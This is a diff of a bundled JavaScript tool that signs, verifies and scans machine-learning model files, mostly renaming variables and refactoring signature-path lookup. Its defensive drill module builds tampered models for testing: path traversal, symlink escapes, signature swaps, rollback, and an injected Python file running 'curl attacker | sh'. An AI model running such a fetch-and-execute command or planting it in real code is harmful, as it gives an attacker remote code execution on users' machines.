+      const files = await glob(path25.join(contentDir, "**"), {
         follow: false,
         nodir: true,
         nosort: true
@@ -42395,16 +42395,16 @@ var require_verify2 = __commonJS({
     }
     function cleanTmp(cache, opts) {
       opts.log.silly("verify", "cleaning tmp directory");
-      return rm4(path26.join(cache, "tmp"), { recursive: true, force: true });
+      return rm4(path25.join(cache, "tmp"), { recursive: true, force: true });
     }
     async function writeVerifile(cache, opts) {
-      const verifile = path26.join(cache, "_lastverified");
+      const verifile = path25.join(cache, "_lastverified");
       opts.log.silly("verify", "writing verifile to " + verifile);
       return writeFile5(verifile, `${Date.now()}`);
     }
     module.exports.lastRun = lastRun2;
     async function lastRun2(cache) {
-      const data = await readFile2(path26.join(cache, "_lastverified"), { encoding: "utf8" });
+      const data = await readFile2(path25.join(cache, "_lastverified"), { encoding: "utf8" });
       return /* @__PURE__ */ new Date(+data);
     }
   }
@@ -42854,22 +42854,22 @@ var require_matchers = __commonJS({
     };
     var DEEP_HEADER_AUTHORIZATION = {
       type: TYPE_PATH,
-      predicate: ({ path: path26 }) => path26.endsWith(".headers.authorization"),
+      predicate: ({ path: path25 }) => path25.endsWith(".headers.authorization"),
       replacement: "[REDACTED_HEADER_AUTHORIZATION]"
     };
     var DEEP_HEADER_SET_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path26 }) => path26.endsWith(".headers.set-cookie"),
+      predicate: ({ path: path25 }) => path25.endsWith(".headers.set-cookie"),
       replacement: "[REDACTED_HEADER_SET_COOKIE]"
     };
     var DEEP_HEADER_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path26 }) => path26.endsWith(".headers.cookie"),
+      predicate: ({ path: path25 }) => path25.endsWith(".headers.cookie"),
       replacement: "[REDACTED_HEADER_COOKIE]"
     };
     var REWRITE_REQUEST = {
       type: TYPE_PATH,
-      predicate: ({ path: path26 }) => path26.endsWith(".request"),
+      predicate: ({ path: path25 }) => path25.endsWith(".request"),
       replacement: (input) => ({
         method: input?.method,
         path: input?.path,
@@ -42879,7 +42879,7 @@ var require_matchers = __commonJS({
     };
     var REWRITE_RESPONSE = {
       type: TYPE_PATH,
-      predicate: ({ path: path26 }) => path26.endsWith(".response"),
+      predicate: ({ path: path25 }) => path25.endsWith(".response"),
       replacement: (input) => ({
         data: input?.data,
         status: input?.status,
@@ -42995,12 +42995,12 @@ var require_utils2 = __commonJS({
       },
       [TYPE_PATH]: (matcher) => (value, ctx) => {
         const rawPath = ctx?.path;
-        const path26 = rawPath.join(".").toLowerCase();
+        const path25 = rawPath.join(".").toLowerCase();
         const { predicate, replacement } = matcher;
         const replace = typeof replacement === "function" ? replacement : () => replacement;
-        const shouldRun = predicate({ rawPath, path: path26 });
+        const shouldRun = predicate({ rawPath, path: path25 });
         if (shouldRun) {
-          value = replace(value, { rawPath, path: path26 });
+          value = replace(value, { rawPath, path: path25 });
         }
         return value;
       }
@@ -50064,14 +50064,14 @@ var require_url = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.join = join2;
     var url_1 = __require("url");
-    function join2(base2, path26) {
-      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path26)).toString();
+    function join2(base2, path25) {
+      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path25)).toString();
     }
-    function ensureTrailingSlash(path26) {
-      return path26.endsWith("/") ? path26 : path26 + "/";
+    function ensureTrailingSlash(path25) {
+      return path25.endsWith("/") ? path25 : path25 + "/";
     }
-    function removeLeadingSlash(path26) {
-      return path26.startsWith("/") ? path26.slice(1) : path26;
+    function removeLeadingSlash(path25) {
+      return path25.startsWith("/") ? path25.slice(1) : path25;
     }
   }
 });
@@ -50125,7 +50125,7 @@ var require_updater = __commonJS({
     var models_1 = require_dist5();
     var debug_1 = __importDefault(require_src());
     var fs2 = __importStar(__require("fs"));
-    var path26 = __importStar(__require("path"));
+    var path25 = __importStar(__require("path"));
     var package_json_1 = require_package4();
     var config_1 = require_config();
     var error_1 = require_error6();
@@ -50197,7 +50197,7 @@ var require_updater = __commonJS({
         const consistentSnapshot = this.trustedSet.root.signed.consistentSnapshot;
         if (consistentSnapshot && this.config.prefixTargetsWithHash) {
           const hashes = Object.values(targetInfo.hashes);
-          const { dir, base: base2 } = path26.parse(targetFilePath);
+          const { dir, base: base2 } = path25.parse(targetFilePath);
           const filename = `${hashes[0]}.${base2}`;
           targetFilePath = dir ? `${dir}/${filename}` : filename;
         }
@@ -50224,7 +50224,7 @@ var require_updater = __commonJS({
         return;
       }
       loadLocalMetadata(fileName) {
-        const filePath = path26.join(this.dir, `${fileName}.json`);
+        const filePath = path25.join(this.dir, `${fileName}.json`);
         log("READ %s", filePath);
         return fs2.readFileSync(filePath);
       }
@@ -50371,12 +50371,12 @@ var require_updater = __commonJS({
           throw new error_1.ValueError("Target directory not set");
         }
         const filePath = encodeURIComponent(targetInfo.path);
-        return path26.join(this.targetDir, filePath);
+        return path25.join(this.targetDir, filePath);
       }
       persistMetadata(metaDataName, bytesData) {
         const encodedName = encodeURIComponent(metaDataName);
         try {
-          const filePath = path26.join(this.dir, `${encodedName}.json`);
+          const filePath = path25.join(this.dir, `${encodedName}.json`);
           log("WRITE %s", filePath);
           fs2.writeFileSync(filePath, bytesData.toString("utf8"));
         } catch (error) {
@@ -50488,13 +50488,13 @@ var require_target = __commonJS({
     var fs_1 = __importDefault(__require("fs"));
     var error_1 = require_error7();
     async function readTarget(tuf, targetPath) {
-      const path26 = await getTargetPath(tuf, targetPath);
+      const path25 = await getTargetPath(tuf, targetPath);
       return new Promise((resolve, reject2) => {
-        fs_1.default.readFile(path26, "utf-8", (err, data) => {
+        fs_1.default.readFile(path25, "utf-8", (err, data) => {
           if (err) {
             reject2(new error_1.TUFError({
               code: "TUF_READ_TARGET_ERROR",
-              message: `error reading target ${path26}`,
+              message: `error reading target ${path25}`,
               cause: err
             }));
           } else {
@@ -50520,19 +50520,19 @@ var require_target = __commonJS({
           message: `target ${target} not found`
         });
       }
-      let path26 = await tuf.findCachedTarget(targetInfo);
-      if (!path26) {
+      let path25 = await tuf.findCachedTarget(targetInfo);
+      if (!path25) {
         try {
-          path26 = await tuf.downloadTarget(targetInfo);
+          path25 = await tuf.downloadTarget(targetInfo);
         } catch (err) {
           throw new error_1.TUFError({
             code: "TUF_DOWNLOAD_TARGET_ERROR",
-            message: `error downloading target ${path26}`,
+            message: `error downloading target ${path25}`,
             cause: err
           });
         }
       }
-      return path26;
+      return path25;
     }
   }
 });
@@ -54781,21 +54781,8 @@ var init_model_path = __esm({
   }
 });
 
-// src/sign/signature-path.ts
-import path10 from "node:path";
-async function defaultSignaturePath(model) {
-  if ((await statModel(model)).isDirectory()) return path10.join(model, "model.sig");
-  return `${model}.sig`;
-}
-var init_signature_path = __esm({
-  "src/sign/signature-path.ts"() {
-    "use strict";
-    init_model_path();
-  }
-});
-
 // src/hashing/paths.ts
-import path11 from "node:path";
+import path10 from "node:path";
 function compareCodePoints(a, b2) {
   const n = a.length < b2.length ? a.length : b2.length;
   for (let i = 0; i < n; i++) {
@@ -54851,8 +54838,8 @@ function isIgnored(name2, ignorePaths) {
 }
 function effectiveIgnores(model, signaturePath, signed, user) {
   const out2 = new Set([...DEFAULT_IGNORES, ...signed ?? [], ...user].map(normaliseIgnorePath));
-  const rel = path11.relative(path11.resolve(model), path11.resolve(signaturePath));
-  if (rel && !rel.startsWith("..") && !path11.isAbsolute(rel)) out2.add(rel.split(path11.sep).join("/"));
+  const rel = path10.relative(path10.resolve(model), path10.resolve(signaturePath));
+  if (rel && !rel.startsWith("..") && !path10.isAbsolute(rel)) out2.add(rel.split(path10.sep).join("/"));
   return [...out2].filter((p2) => p2 !== "" && p2 !== ".");
 }
 var DEFAULT_IGNORES;
@@ -57875,7 +57862,7 @@ var init_index_min = __esm({
 // src/hashing/archive.ts
 import { constants as constants4 } from "node:fs";
 import { open as open4, stat as stat6 } from "node:fs/promises";
-import path12 from "node:path";
+import path11 from "node:path";
 import { Transform } from "node:stream";
 import { createGunzip } from "node:zlib";
 function isArchivePath(p2) {
@@ -58021,7 +58008,7 @@ async function openArchive(file) {
   return { fh, size: st2.size };
 }
 async function scanPass(file, req, initial, maxEntries) {
-  const root = path12.resolve(file);
+  const root = path11.resolve(file);
   const { fh, size: archiveSize } = await openArchive(root);
   const ignorePaths = [...req.ignorePaths, EMBEDDED_SIGNATURE];
   const problems = [];
@@ -58553,13 +58540,13 @@ var init_verified_file = __esm({
 
 // src/source/local-read.ts
 import { lstat as lstat3, realpath } from "node:fs/promises";
-import path13 from "node:path";
+import path12 from "node:path";
 async function statInside(root, name2, allowSymlinks) {
   const missing = { code: "FILE_MISSING", path: name2, message: "signed file is missing" };
   let cur = root;
   let viaLink = false;
   for (const seg of name2.split("/")) {
-    cur = path13.join(cur, seg);
+    cur = path12.join(cur, seg);
     let st3;
     try {
       st3 = await lstat3(cur);
@@ -58579,7 +58566,7 @@ async function statInside(root, name2, allowSymlinks) {
       return { code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" };
     }
     const rootReal = await realpath(root);
-    if (!abs.startsWith(rootReal.endsWith(path13.sep) ? rootReal : rootReal + path13.sep)) {
+    if (!abs.startsWith(rootReal.endsWith(path12.sep) ? rootReal : rootReal + path12.sep)) {
       return { code: "SYMLINK_OUTSIDE", path: name2, message: "signed path goes through a symlink out of the model" };
     }
   }
@@ -58674,7 +58661,7 @@ var init_local_read = __esm({
 // src/source/archive.ts
 import { createReadStream as createReadStream2 } from "node:fs";
 import { stat as stat7 } from "node:fs/promises";
-import path14 from "node:path";
+import path13 from "node:path";
 function isArchivePath2(p2) {
   return ARCHIVE_RE2.test(p2);
 }
@@ -58683,7 +58670,7 @@ function archiveSource(model) {
     kind: "archive",
     model,
     defaultIgnores: [EMBEDDED_SIGNATURE],
-    defaultName: () => path14.basename(path14.resolve(model)).replace(ARCHIVE_RE2, "") || "model",
+    defaultName: () => path13.basename(path13.resolve(model)).replace(ARCHIVE_RE2, "") || "model",
     defaultSignaturePath: () => `${model}.sig`,
     read: (req) => readArchive(model, req)
   };
@@ -58771,9 +58758,9 @@ var init_archive2 = __esm({
 import { isUtf8 as isUtf82 } from "node:buffer";
 import { lstatSync, readdirSync, realpathSync, statSync } from "node:fs";
 import { lstat as lstat4, realpath as realpath2 } from "node:fs/promises";
-import path15 from "node:path";
+import path14 from "node:path";
 function within(rootReal, target) {
-  return target === rootReal || target.startsWith(rootReal.endsWith(path15.sep) ? rootReal : rootReal + path15.sep);
+  return target === rootReal || target.startsWith(rootReal.endsWith(path14.sep) ? rootReal : rootReal + path14.sep);
 }
 function kindOf(st2) {
   if (st2.isFIFO()) return "FIFO";
@@ -58846,7 +58833,7 @@ function fsProblem(e, rel, op, abs) {
   return { code: "UNREADABLE", path: rel, message: c === "EACCES" || c === "EPERM" ? `${what}: permission denied (${c})` : `${what} (${c})` };
 }
 async function enumerateModel(model, opts) {
-  const root = path15.resolve(model);
+  const root = path14.resolve(model);
   let st2;
   try {
     st2 = await lstat4(root);
@@ -58859,7 +58846,7 @@ async function enumerateModel(model, opts) {
     return enumerateModel(real, opts);
   }
   if (st2.isFile()) {
-    return { root, isFile: true, files: [{ name: path15.basename(root), abs: root, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino }, stamp: stampOf(st2) }], problems };
+    return { root, isFile: true, files: [{ name: path14.basename(root), abs: root, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino }, stamp: stampOf(st2) }], problems };
   }
   if (!st2.isDirectory()) {
     throw usage("SPECIAL_FILE", `model is a ${kindOf(st2)}, not a file or directory: ${model}`);
@@ -58908,7 +58895,7 @@ async function enumerateModel(model, opts) {
     }
     if (!again.isDirectory() || again.dev !== dst.dev || again.ino !== dst.ino) return replaced(rel);
     const id2 = { dev: dst.dev, ino: dst.ino };
-    const prefix = absDir.endsWith(path15.sep) ? absDir : absDir + path15.sep;
+    const prefix = absDir.endsWith(path14.sep) ? absDir : absDir + path14.sep;
     for (const raw of listed.invalid) {
       const name2 = rel === "" ? escapeName(raw) : `${rel}/${escapeName(raw)}`;
       if (isIgnored(name2, opts.ignorePaths)) continue;
@@ -59000,14 +58987,14 @@ var init_walk = __esm({
 });
 
 // src/source/directory.ts
-import path16 from "node:path";
+import path15 from "node:path";
 function directorySource(model) {
   return {
     kind: "directory",
     model,
     defaultIgnores: [],
-    defaultName: () => path16.basename(path16.resolve(model)) || "model",
-    defaultSignaturePath: () => path16.join(model, "model.sig"),
+    defaultName: () => path15.basename(path15.resolve(model)) || "model",
+    defaultSignaturePath: () => path15.join(model, "model.sig"),
     read: async (req) => readWalked(await enumerateModel(model, { ignorePaths: req.ignorePaths, allowSymlinks: req.allowSymlinks }), req)
   };
 }
@@ -59020,13 +59007,13 @@ var init_directory = __esm({
 });
 
 // src/source/file.ts
-import path17 from "node:path";
+import path16 from "node:path";
 function fileSource(model) {
   return {
     kind: "file",
     model,
     defaultIgnores: [],
-    defaultName: () => path17.basename(path17.resolve(model)).replace(/\.(tar\.gz|tgz|tar)$/i, "") || "model",
+    defaultName: () => path16.basename(path16.resolve(model)).replace(/\.(tar\.gz|tgz|tar)$/i, "") || "model",
     defaultSignaturePath: () => `${model}.sig`,
     read: async (req) => readWalked(await enumerateModel(model, { ignorePaths: [], allowSymlinks: req.allowSymlinks }), req)
   };
@@ -59267,7 +59254,7 @@ __export(pipeline_exports, {
   checkTrust: () => checkTrust,
   verifyModel: () => verifyModel
 });
-import path18 from "node:path";
+import path17 from "node:path";
 function requireIdentityPolicy(bundle, trust) {
   if (bundle.material.kind === "publicKey") return;
   const vm = bundle.json.verificationMaterial;
@@ -59310,7 +59297,7 @@ function checkRootDigest(statement, result) {
   return false;
 }
 function signedAsOneFile(model, statement) {
-  const base2 = path18.basename(model);
+  const base2 = path17.basename(model);
   const fileOf = (n) => statement.serialization.method === "shards" ? parseShardName(n)?.path ?? n : n;
   return statement.resources.length > 0 && statement.resources.every((r) => fileOf(r.name) === "." || fileOf(r.name) === base2);
 }
@@ -59332,18 +59319,11 @@ function emptyResult(model, signature) {
     reports: {}
   };
 }
-async function signaturePathFor(opts) {
-  if (opts.source) return opts.signature ?? opts.source.defaultSignaturePath();
-  if (opts.signature !== void 0) {
-    await statModel(opts.model);
-    return opts.signature;
-  }
-  return defaultSignaturePath(opts.model);
-}
 async function verifyModel(opts) {
   const stages = opts.stages ?? [];
   checkStageOrder(stages);
-  const signature = await signaturePathFor(opts);
+  const source = opts.source ?? await openSource(opts.model);
+  const signature = opts.signature ?? source.defaultSignaturePath();
   const result = emptyResult(opts.model, signature);
   try {
     const bundle = parseBundle(await readBundleFile(signature, void 0, { noFollow: opts.signature === void 0 }));
@@ -59359,10 +59339,10 @@ async function verifyModel(opts) {
     if (!checkNames(statement, result) || !checkRootDigest(statement, result)) return finish(result);
     const runs = stages.map((s3) => s3.start());
     const inspector = stageInspector(runs);
-    const source = opts.source ?? await openSource(opts.model, { archiveAsFile: signedAsOneFile(opts.model, statement) });
+    const reader = source.kind === "archive" && !opts.source && signedAsOneFile(opts.model, statement) ? await openSource(opts.model, { archiveAsFile: true }) : source;
     const files = await checkFiles({
       model: opts.model,
-      source,
+      source: reader,
       signaturePath: signature,
       serialization: statement.serialization,
       resources: statement.resources,
@@ -59394,12 +59374,10 @@ var init_pipeline = __esm({
   "src/verify/pipeline.ts"() {
     "use strict";
     init_errors();
-    init_model_path();
     init_serialize();
     init_bundle();
     init_dsse();
     init_statement();
-    init_signature_path();
     init_source3();
     init_files();
     init_names();
@@ -59665,7 +59643,7 @@ async function walkLineage(opts) {
     }
     node.verified = node.failure === null;
     node.datasets = vb.lineage?.datasets ?? [];
-    const path26 = new Set(onPath).add(link.rootDigest);
+    const path25 = new Set(onPath).add(link.rootDigest);
     const nextBelow = new Map(below);
     const prev = nextBelow.get(vb.name);
     if (prev === void 0 || prev !== null && import_semver6.default.lt(vb.version, prev)) nextBelow.set(vb.name, vb.version);
@@ -59677,7 +59655,7 @@ async function walkLineage(opts) {
         }
         break;
       }
-      node.parents.push(await visit(p2, node, depth + 1, path26, nextBelow));
+      node.parents.push(await visit(p2, node, depth + 1, path25, nextBelow));
     }
     return node;
   };
@@ -60443,9 +60421,20 @@ var init_sign = __esm({
   }
 });
 
+// src/sign/signature-path.ts
+async function defaultSignaturePath(model) {
+  return (await openSource(model)).defaultSignaturePath();
+}
+var init_signature_path = __esm({
+  "src/sign/signature-path.ts"() {
+    "use strict";
+    init_source3();
+  }
+});
+
 // src/scan/scan-path.ts
 import { lstat as lstat5 } from "node:fs/promises";
-import path20 from "node:path";
+import path19 from "node:path";
 function summarise(target, files, extra, failOn = "low", refused = 0) {
   const findings = [...extra, ...files.flatMap((f2) => f2.findings)].sort((a, b2) => severityRank(b2.severity) - severityRank(a.severity));
   const clean5 = !findings.some((f2) => severityRank(f2.severity) >= severityRank(failOn));
@@ -60475,7 +60464,7 @@ async function scanPath(target, opts = {}) {
   const source = await openSource(target);
   const inspector = new ScanInspector(limits);
   const { listing } = await source.read({ ranges: () => [], allowSymlinks: false, ignorePaths: [], inspector });
-  const shown = source.kind === "archive" ? (name2) => `${path20.basename(target)}:${name2}` : (name2) => name2;
+  const shown = source.kind === "archive" ? (name2) => `${path19.basename(target)}:${name2}` : (name2) => name2;
   for (const r of inspector.reports) {
     r.file = shown(r.file);
     for (const f2 of r.findings) f2.file = shown(f2.file);
@@ -60484,7 +60473,7 @@ async function scanPath(target, opts = {}) {
   const extra = listing.problems.map((p2) => ({
     code: "SCAN_SKIPPED",
     severity: UNSCANNED_HIGH.has(p2.code) || p2.path === void 0 ? "high" : "medium",
-    file: p2.path !== void 0 ? shown(p2.path) : path20.basename(target),
+    file: p2.path !== void 0 ? shown(p2.path) : path19.basename(target),
     message: notScanned(p2)
   }));
   for (const f2 of inspector.findings) extra.push(f2);
@@ -60689,7 +60678,7 @@ var init_hostile = __esm({
 
 // src/drill/model.ts
 import { mkdir as mkdir3, writeFile as writeFile3 } from "node:fs/promises";
-import path21 from "node:path";
+import path20 from "node:path";
 function filler(n, seed) {
   const b2 = Buffer.alloc(n);
   let x = seed >>> 0 || 1;
@@ -60708,12 +60697,12 @@ function safetensorsShard(tensor, data) {
   return Buffer.concat([len, header, data]);
 }
 async function writeModel(dir, seed = 1) {
-  await mkdir3(path21.join(dir, "tokenizer"), { recursive: true });
-  await writeFile3(path21.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
-  await writeFile3(path21.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
-  await writeFile3(path21.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
-  await writeFile3(path21.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
-  await writeFile3(path21.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
+  await mkdir3(path20.join(dir, "tokenizer"), { recursive: true });
+  await writeFile3(path20.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
+  await writeFile3(path20.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
+  await writeFile3(path20.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
+  await writeFile3(path20.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
+  await writeFile3(path20.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
   return dir;
 }
 async function signDrillModel(dir, key, o = {}) {
@@ -60754,15 +60743,15 @@ import { execFileSync } from "node:child_process";
 import { createHash as createHash6, generateKeyPairSync as generateKeyPairSync2 } from "node:crypto";
 import { appendFile, copyFile, mkdir as mkdir4, readFile, rename as rename3, rm as rm2, symlink, writeFile as writeFile4 } from "node:fs/promises";
 import { rmSync } from "node:fs";
-import path22 from "node:path";
+import path21 from "node:path";
 async function readSigned(model) {
-  const bundle = JSON.parse(await readFile(path22.join(model, "model.sig"), "utf8"));
+  const bundle = JSON.parse(await readFile(path21.join(model, "model.sig"), "utf8"));
   const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, "base64").toString("utf8"));
   return { bundle, statement };
 }
 async function writeSignedPayload(model, payload, key) {
   const bundle = await keySigner(key.priv, key.pub)(Buffer.from(payload, "utf8"));
-  await writeFile4(path22.join(model, "model.sig"), serializeBundle(bundle));
+  await writeFile4(path21.join(model, "model.sig"), serializeBundle(bundle));
 }
 async function signedWithExtraResource(ctx, dirName, extra) {
   const m2 = await ctx.copyBase(dirName);
@@ -60775,7 +60764,7 @@ async function signedWithExtraResource(ctx, dirName, extra) {
 }
 function canMakeFifo(dir) {
   if (process.platform === "win32") return false;
-  const probe = path22.join(dir, ".fifo-probe");
+  const probe = path21.join(dir, ".fifo-probe");
   try {
     execFileSync("mkfifo", [probe], { stdio: "ignore" });
     rmSync(probe, { force: true });
@@ -60785,7 +60774,7 @@ function canMakeFifo(dir) {
   }
 }
 async function emptyStore(ctx, name2) {
-  const dir = path22.join(ctx.tmp, name2);
+  const dir = path21.join(ctx.tmp, name2);
   await mkdir4(dir, { recursive: true });
   return dir;
 }
@@ -60809,7 +60798,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("changed-byte");
-          const f2 = path22.join(m2, SHARD_1);
+          const f2 = path21.join(m2, SHARD_1);
           const b2 = await readFile(f2);
           const i = b2.length >> 1;
           b2[i] = b2[i] ^ 1;
@@ -60823,7 +60812,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("injected-file");
-          await writeFile4(path22.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
+          await writeFile4(path21.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
           return { model: m2 };
         }
       },
@@ -60833,7 +60822,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("removed-shard");
-          await rm2(path22.join(m2, SHARD_2));
+          await rm2(path21.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -60843,9 +60832,9 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("renamed-file");
-          await rename3(path22.join(m2, SHARD_1), path22.join(m2, "tmp"));
-          await rename3(path22.join(m2, SHARD_2), path22.join(m2, SHARD_1));
-          await rename3(path22.join(m2, "tmp"), path22.join(m2, SHARD_2));
+          await rename3(path21.join(m2, SHARD_1), path21.join(m2, "tmp"));
+          await rename3(path21.join(m2, SHARD_2), path21.join(m2, SHARD_1));
+          await rename3(path21.join(m2, "tmp"), path21.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -60854,10 +60843,10 @@ var init_attacks = __esm({
         title: "another model's valid signature (same signer) put beside this model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const other = await writeModel(path22.join(ctx.tmp, "other-model"), 99);
+          const other = await writeModel(path21.join(ctx.tmp, "other-model"), 99);
           await signDrillModel(other, ctx.signer, { license: ctx.licenses.allowed });
           const m2 = await ctx.copyBase("swapped-signature");
-          await copyFile(path22.join(other, "model.sig"), path22.join(m2, "model.sig"));
+          await copyFile(path21.join(other, "model.sig"), path21.join(m2, "model.sig"));
           return { model: m2 };
         }
       },
@@ -60866,7 +60855,7 @@ var init_attacks = __esm({
         title: "the model re-signed by a key the set-up does not trust",
         needs: [],
         async build(ctx) {
-          const m2 = path22.join(ctx.tmp, "untrusted-key");
+          const m2 = path21.join(ctx.tmp, "untrusted-key");
           await writeModel(m2, 7);
           const kp = generateKeyPairSync2("ed25519");
           await signDrillModel(m2, { priv: kp.privateKey, pub: kp.publicKey });
@@ -60878,7 +60867,7 @@ var init_attacks = __esm({
         title: "the signature file removed",
         needs: [],
         async build(ctx) {
-          const m2 = path22.join(ctx.tmp, "missing-signature");
+          const m2 = path21.join(ctx.tmp, "missing-signature");
           await writeModel(m2, 8);
           return { model: m2 };
         }
@@ -60890,13 +60879,13 @@ var init_attacks = __esm({
         async build(ctx) {
           const m2 = await ctx.copyBase("edited-payload");
           const evil = safetensorsShard("a.weight", filler(64 * 1024, 666));
-          await writeFile4(path22.join(m2, SHARD_1), evil);
+          await writeFile4(path21.join(m2, SHARD_1), evil);
           const { bundle, statement } = await readSigned(m2);
           const r = statement.predicate.resources.find((x) => x.name === SHARD_1);
           r.digest = sha256(evil);
           statement.subject[0].digest.sha256 = rootDigest(statement.predicate.resources);
           bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString("base64");
-          await writeFile4(path22.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
+          await writeFile4(path21.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
           return { model: m2 };
         }
       },
@@ -60906,7 +60895,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("two-manifests");
-          await writeFile4(path22.join(m2, "modeling_llama.py"), "import os\n");
+          await writeFile4(path21.join(m2, "modeling_llama.py"), "import os\n");
           const { statement } = await readSigned(m2);
           const evil = JSON.parse(JSON.stringify(statement));
           evil.predicate.resources.push({ name: "modeling_llama.py", algorithm: "sha256", digest: sha256("import os\n") });
@@ -60920,7 +60909,7 @@ var init_attacks = __esm({
         title: 'signed manifest names "../secret.bin", a file outside the model with the signed digest',
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path22.join(ctx.tmp, "secret.bin");
+          const outside = path21.join(ctx.tmp, "secret.bin");
           await writeFile4(outside, "outside the model\n");
           return { model: await signedWithExtraResource(ctx, "traversal", { name: "../secret.bin", digest: sha256("outside the model\n") }) };
         }
@@ -60930,7 +60919,7 @@ var init_attacks = __esm({
         title: "signed manifest names an absolute path outside the model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path22.join(ctx.tmp, "secret-abs.bin");
+          const outside = path21.join(ctx.tmp, "secret-abs.bin");
           await writeFile4(outside, "outside the model (absolute)\n");
           return { model: await signedWithExtraResource(ctx, "absolute-path", { name: outside, digest: sha256("outside the model (absolute)\n") }) };
         }
@@ -60941,10 +60930,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-out");
-          const outside = path22.join(ctx.tmp, "config-copy.json");
-          await copyFile(path22.join(m2, "config.json"), outside);
-          await rm2(path22.join(m2, "config.json"));
-          await symlink(outside, path22.join(m2, "config.json"));
+          const outside = path21.join(ctx.tmp, "config-copy.json");
+          await copyFile(path21.join(m2, "config.json"), outside);
+          await rm2(path21.join(m2, "config.json"));
+          await symlink(outside, path21.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -60954,10 +60943,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-in");
-          await mkdir4(path22.join(m2, ".git"));
-          await copyFile(path22.join(m2, "config.json"), path22.join(m2, ".git", "config.json"));
-          await rm2(path22.join(m2, "config.json"));
-          await symlink(path22.join(".git", "config.json"), path22.join(m2, "config.json"));
+          await mkdir4(path21.join(m2, ".git"));
+          await copyFile(path21.join(m2, "config.json"), path21.join(m2, ".git", "config.json"));
+          await rm2(path21.join(m2, "config.json"));
+          await symlink(path21.join(".git", "config.json"), path21.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -60967,7 +60956,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature", "fifo"],
         async build(ctx) {
           const m2 = await ctx.copyBase("fifo");
-          execFileSync("mkfifo", [path22.join(m2, "pipe.bin")]);
+          execFileSync("mkfifo", [path21.join(m2, "pipe.bin")]);
           return { model: m2 };
         }
       },
@@ -60977,7 +60966,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("appended-bytes");
-          await appendFile(path22.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
+          await appendFile(path21.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
           return { model: m2 };
         }
       },
@@ -60986,9 +60975,9 @@ var init_attacks = __esm({
         title: "an older signed version presented after a newer one was verified (version rollback)",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const stateFile = path22.join(ctx.tmp, "rollback-state.json");
+          const stateFile = path21.join(ctx.tmp, "rollback-state.json");
           const setup = { storeDir: await emptyStore(ctx, "rollback-store"), stateFile };
-          const newer = path22.join(ctx.tmp, "rollback-newer");
+          const newer = path21.join(ctx.tmp, "rollback-newer");
           await writeModel(newer, 21);
           await signDrillModel(newer, ctx.signer, { version: "2.0.0", license: ctx.licenses.allowed });
           const r = await ctx.verify(newer, setup);
@@ -61003,12 +60992,12 @@ var init_attacks = __esm({
         title: "a correctly signed fine-tune of a revoked base model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const parentBundle = await readFile(path22.join(ctx.base, "model.sig"));
+          const parentBundle = await readFile(path21.join(ctx.base, "model.sig"));
           const { statement } = await readSigned(ctx.base);
           const parentDigest = `sha256:${statement.subject[0].digest.sha256}`;
-          const storeDir = path22.join(ctx.tmp, "revoked-store");
+          const storeDir = path21.join(ctx.tmp, "revoked-store");
           await recordBundle(storeDir, { name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest }, parentBundle);
-          const m2 = path22.join(ctx.tmp, "revoked-ancestor");
